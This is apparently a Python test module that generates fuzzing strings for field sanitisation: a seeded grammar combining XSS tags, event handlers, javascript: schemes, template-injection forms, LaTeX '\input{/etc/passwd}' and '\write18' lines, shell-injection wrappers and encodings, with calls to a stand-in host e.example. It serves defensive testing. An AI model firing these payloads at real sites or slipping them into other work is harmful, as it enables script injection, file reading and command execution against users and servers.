"""Hostile text for every field: a seeded grammar, and a public list.

A string of the grammar is a call in something that runs it (a tag, an event, an address), disguised by
encodings, letters or comments, after the end of an HTML element, an attribute, JSON, Markdown, LaTeX, BibTeX,
a template or a shell word. No string is longer than `LONGEST`, so that all fit every field.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from urllib.parse import quote

from tests.conftest import ROOT

PUBLIC = ROOT / "tests/node_modules/big-list-of-naughty-strings/blns.json"
LONGEST = 100
"""Number of characters, as many as a keyword may have."""

CALLS = (
    *("alert(1)", "alert`1`", "confirm(1)", "prompt(1)", "print()", "tripwire()", "top.tripwire()"),
    *("self['al'+'ert'](1)", "(0,alert)(1)", "throw 1", "open('//e.example')", "eval('tripwire()')"),
    *("location='//e.example/'", "fetch('//e.example/x')", "[1].map(alert)", "setTimeout('tripwire()')"),
    *("new Function('tripwire()')()", "import('//e.example/x.js')", "onerror=alert;throw 1"),
)
EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontoggle"),
    *("onpointerenter", "onwheel", "oninput", "onchange", "onbeforetoggle", "onscroll", "onkeydown"),
    *("ontransitionend", "onbegin", "onpageshow", "onhashchange", "onmessage", "oncopy", "ondragstart"),
)
TAGS = (
    *("img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus", "details open"),
    *("object data=x", "embed src=x", "marquee", "a href=x", "math", "style", "link rel=stylesheet href=x"),
    *("select autofocus", "textarea autofocus", "b", "x-y", "button popovertarget=x", "form", "isindex"),
    *("table background=x", "picture", "source", "track", "frameset", "title", "template", "noscript", "bdi"),
)
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:"),
    *("vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "view-source:"),
    *(
        "jav&#x09;ascript:",
        "javascript&colon;",
        "&#106;avascript:",
        "//e.example/",
        "\\\\e.example/",
        "blob:",
    ),
    *("https://e.example@", "mailto:", "feed:javascript:", "file:///", "livescript:", "http://e.example/?q="),
)
BREAKS = (
    *(
        "",
        "",
        "",
        '"',
        "'",
        '">',
        "'>",
        "-->",
        "--!>",
        "]]>",
        "</script>",
        "</title>",
        "</style>",
        "</textarea>",
    ),
    *(
        "</h1></main>",
        "</a>",
        "</bdi>",
        "</pre></code>",
        "</p>",
        "\\",
        '\\"',
        "`",
        "*/",
        "}",
        "}}",
        "%}",
        ")",
        "]",
    ),
    *("?>", "</noscript>", "</template>", "</svg>", "<!--", "<![CDATA[", "<?xml ", "\u2028", "\x00", "\x0b"),
)
JOINS = (" ", "/", "\t", "\n", "\x0c", "/**/", "\xa0", "//", "+")
QUOTES = ("", '"', "'", "`")
TEMPLATES = (
    "{{%s}}",
    "{%% if 1 %%}%s{%% endif %%}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}%s",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "{{constructor.constructor('%s')()}}",
    "{# %s #}",
    "{{'%s'|safe}}",
    "[[%s]]",
    "@{%s}",
    "*{%s}",
    "{%% include '/etc/passwd' %%}%s",
    "{{7*'7'}}%s",
)
MARKDOWN = (
    "[x](%s)",
    "![x](%s)",
    "<%s>",
    "[x]: %s",
    '[x](%s "y")',
    "[![x](%s)](%s)",
    "**%s**",
    "`%s`",
    "``%s",
    "# %s",
    "- %s",
    "> %s",
    "1. %s",
    "|%s|-|",
    "~~~%s",
    "---%s",
    "[^1]: %s",
    "*[x]: %s",
    "&lt;%s&gt;",
    "\\<%s\\>",
    "[x](<%s>)",
    "{: %s}",
)
LATEX = (
    r"\href{%s}{x}",
    r"\url{%s}",
    r"$%s$",
    r"\[%s\]",
    r"\def\x{%s}\x\x\x",
    r"\input{/etc/passwd}%s",
    r"\write18{%s}",
    r"{\bf %s}",
    r"\\begin{x}%s\\end{x}",
    r"``%s''",
    r"\htmlData{a=%s}{x}",
    r"$\unicode{%s}$",
    r"\%% %s \& \{ \} \~ \^",
    r"@misc{x, title={%s}}",
    "}},\n url={%s}}",
    r"\textcolor{%s}{x}",
    r"\ensuremath{%s",
    r"\'e \c{c} %s \ss",
    "%s} and {",
)
SHELLS = (
    "$(%s)",
    "`%s`",
    "; %s #",
    "| %s",
    "&& %s",
    "\n%s\n",
    "::error file=x::%s",
    "::set-output name=x::%s",
    "##[group]%s",
    "\x1b[31m%s\x1b]0;x\x07",
    "${{ %s }}",
    "../../%s",
    "C:\\%s",
    "%%n%%s%s",
    "=cmd|'%s'!A1",
    "--%s",
    "%s > /dev/null",
    "$IFS%s",
    "%s\r\n\r\nHTTP/1.1 200 OK",
)
JSONS = (
    '{"x": "%s"}',
    '"%s"',
    "'%s'",
    '\\"%s',
    "</script><script>%s</script>",
    "\\u003cscript\\u003e%s",
    "]]}%s",
    "__proto__ %s",
    "constructor %s",
    "\u2029%s",
    "\ufeff%s",
    "\ud83d%s",
    "*/%s/*",
)
BIDI = ("\u202e", "\u202a", "\u2066", "\u2067", "\u200f", "\u200b", "\xad", "\u061c", "\u2069", "\u200d")


def _case(text: str, rng: random.Random) -> str:
    return "".join(rng.choice((one.lower(), one.upper())) for one in text)


def _disguised(text: str, rng: random.Random) -> str:
    """Encode text as entities, percent signs, escapes or wide letters, or leave it."""
    forms: tuple[Callable[[str], str], ...] = (
        *(3 * (str,)),
        lambda part: "".join(f"&#{ord(one)};" for one in part),
        lambda part: "".join(f"&#x{ord(one):x}" for one in part),
        lambda part: "".join(f"&#{ord(one):07d}" for one in part),
        lambda part: quote(part, errors="replace"),
        lambda part: quote(quote(part, safe="", errors="replace"), safe=""),
        lambda part: "".join(f"\\u{ord(one):04x}" for one in part),
        lambda part: "".join(f"\\x{ord(one) % 256:02x}" for one in part),
        lambda part: "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in part),
        lambda part: part.replace("<", "&lt;").replace(">", "&gt;"),
        lambda part: part.replace("<", "\u227a").replace("s", "\u017f").replace("K", "\u212a"),
        lambda part: _case(part, rng),
        lambda part: part[:1] + "\x00" + part[1:],
        lambda part: part[: len(part) // 2] + rng.choice(BIDI) + part[len(part) // 2 :],
    )
    start = rng.randrange(len(text) + 1)
    end = min(len(text), start + rng.randrange(1, 9))
    return text[:start] + rng.choice(forms)(text[start:end]) + text[end:]


def _tag(rng: random.Random) -> str:
    mark, join = rng.choice(QUOTES), rng.choice(JOINS)
    tag, event, call = rng.choice(TAGS), rng.choice(EVENTS), rng.choice(CALLS)
    end = rng.choice((">", "/>", "", "//", f"></{tag.split()[0]}>"))
    return f"<{_case(tag, rng) if rng.random() < 0.2 else tag}{join}{event}={mark}{call}{mark}{end}"


def _script(rng: random.Random) -> str:
    call = rng.choice(CALLS)
    forms = (
        f"<script>{call}</script>",
        f"<script src=//e.example/x.js>{call}",
        f"<script type=module>{call}</script>",
        f"<svg><script>{call}</script></svg>",
        f"<svg><animate onbegin={call} attributeName=x dur=1s>",
        f"<math><mtext><style><img src=x onerror={call}></style></mtext></math>",
        f"<scr<script>ipt>{call}</scr</script>ipt>",
        f'<iframe srcdoc="<script>{call}</script>">',
        f"<noscript><p title='</noscript><img src=x onerror={call}>'>",
        f"<style>@import '//e.example';</style><base href=//e.example/>{call}",
        f"<meta http-equiv=refresh content='0;url=javascript:{call}'>",
        f"<form action=javascript:{call}><button>x</form>",
        f"<input type=image src=x formaction=javascript:{call}>",
        f"<template shadowrootmode=open><script>{call}</script></template>",
        f"<svg><a xlink:href=javascript:{call}><text>x</text></a>",
    )
    return rng.choice(forms)


def _address(rng: random.Random) -> str:
    target = rng.choice(SCHEMES) + rng.choice(CALLS)
    mark = rng.choice(QUOTES)
    return rng.choice((target, f"<a href={mark}{target}{mark}>x</a>", f"<iframe src={mark}{target}{mark}>"))


def _within(forms: tuple[str, ...]) -> Callable[[random.Random], str]:
    def make(rng: random.Random) -> str:
        form = rng.choice(forms)
        inner = rng.choice((_tag, _script, _address, lambda rng: rng.choice(CALLS)))
        return form % tuple(inner(rng) for _ in range(form.replace("%%", "").count("%s")))

    return make


KINDS: dict[str, Callable[[random.Random], str]] = {
    "tags": _tag,
    "scripts": _script,
    "addresses": _address,
    "templates": _within(TEMPLATES),
    "Markdown": _within(MARKDOWN),
    "LaTeX": _within(LATEX),
    "shells": _within(SHELLS),
    "JSON": _within(JSONS),
}


def grammar(count: int, seed: int = 6) -> list[str]:
    """Return so many different strings, equally many of each kind; the same for the same seed."""
    rng = random.Random(seed)
    found: dict[str, None] = {}
    makers = list(KINDS.values())
    while len(found) < count:
        text = makers[len(found) % len(makers)](rng)
        for _ in range(rng.choice((0, 0, 1, 1, 2))):
            text = _disguised(text, rng)
        text = rng.choice(BREAKS) + text + rng.choice(("", "", rng.choice(BREAKS)))
        if text.strip() and len(text) <= LONGEST:
            found[text] = None
    return list(found)


def public() -> list[str]:
    """Return the strings of `big-list-of-naughty-strings` that are not empty."""
    listed = json.loads(PUBLIC.read_text("utf-8"))
    return [text for text in dict.fromkeys(listed) if text.strip()]
